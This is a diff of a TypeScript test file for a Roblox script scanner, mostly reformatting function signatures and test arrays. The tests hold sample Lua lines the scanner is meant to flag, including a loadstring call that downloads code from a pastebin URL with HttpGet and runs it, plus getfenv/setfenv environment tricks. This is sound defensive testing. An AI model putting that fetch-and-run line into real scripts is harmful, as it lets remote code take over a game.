@@ -2,14 +2,23 @@
 import { HIDDEN_DEPTH, RULE_LABELS, scanAsset, scanSource } from "./asset-scan";
 import { ScanFinding } from "../proposals/operation";
 
-function make<T extends keyof CreatableInstances>(className: T, name: string, parent?: Instance): CreatableInstances[T] {
+function make<T extends keyof CreatableInstances>(
+	className: T,
+	name: string,
+	parent?: Instance,
+): CreatableInstances[T] {
 	const instance = new Instance(className);
 	instance.Name = name;
 	instance.Parent = parent;
 	return instance;
 }
 
-function withSource<T extends "Script" | "LocalScript" | "ModuleScript">(className: T, name: string, parent: Instance, source: string) {
+function withSource<T extends "Script" | "LocalScript" | "ModuleScript">(
+	className: T,
+	name: string,
+	parent: Instance,
+	source: string,
+) {
 	const container = make(className, name, parent);
 	(container as ModuleScript).Source = source;
 	return container;
@@ -22,7 +31,8 @@ function lines(...list: Array<string>): string {
 function rulesOf(findings: ReadonlyArray<ScanFinding>, scriptPath?: string): string {
 	const parts = new Array<string>();
 	for (const finding of findings) {
-		if (scriptPath === undefined || finding.script === scriptPath) parts.push(`${finding.rule}@${finding.line}:${finding.severity}`);
+		if (scriptPath === undefined || finding.script === scriptPath)
+			parts.push(`${finding.rule}@${finding.line}:${finding.severity}`);
 	}
 	return parts.join(" ");
 }
@@ -55,7 +65,10 @@ export = () => {
 		]) {
 			expect(rulesOf(scanSource("M", line))).to.equal("require_id@1:danger");
 		}
-		for (const line of ["local Config = require(script.Parent.Config)", 'local Util = require(game:GetService("ReplicatedStorage").Util)']) {
+		for (const line of [
+			"local Config = require(script.Parent.Config)",
+			'local Util = require(game:GetService("ReplicatedStorage").Util)',
+		]) {
 			expect(rulesOf(scanSource("M", line))).to.equal("");
 		}
 	});
@@ -64,7 +77,11 @@ export = () => {
 		const envGet = "get" + "fenv";
 		const envSet = "set" + "fenv";
 		const compile = "load" + "string";
-		const source = lines(`local env = ${envGet}(0)`, `${envSet}(1, {})`, `${compile}(game:HttpGet("https://pastebin.com/raw/abc"))()`);
+		const source = lines(
+			`local env = ${envGet}(0)`,
+			`${envSet}(1, {})`,
+			`${compile}(game:HttpGet("https://pastebin.com/raw/abc"))()`,
+		);
 		const findings = scanSource("S", source);
 		expect(rulesOf(findings)).to.equal(`${envGet}@1:danger ${envSet}@2:danger ${compile}@3:danger http@3:warning`);
 		expect(RULE_LABELS[findings[0].rule]).to.equal("reads a function environment (used to hide what the script calls)");
@@ -100,7 +117,9 @@ export = () => {
 		expect(findings[1].line).to.equal(2);
 		expect(findings[1].severity).to.equal("danger");
 		expect(findings[1].excerpt.find("hidden by splitting", 1, true)[0]).to.equal(1);
-		const reversed = findings.filter((finding) => finding.line === 3 && finding.rule === ("load" + "string") as never);
+		const reversed = findings.filter(
+			(finding) => finding.line === 3 && finding.rule === (("load" + "string") as never),
+		);
 		expect(reversed.size()).to.equal(1);
 		expect(reversed[0].severity).to.equal("danger");
 	});
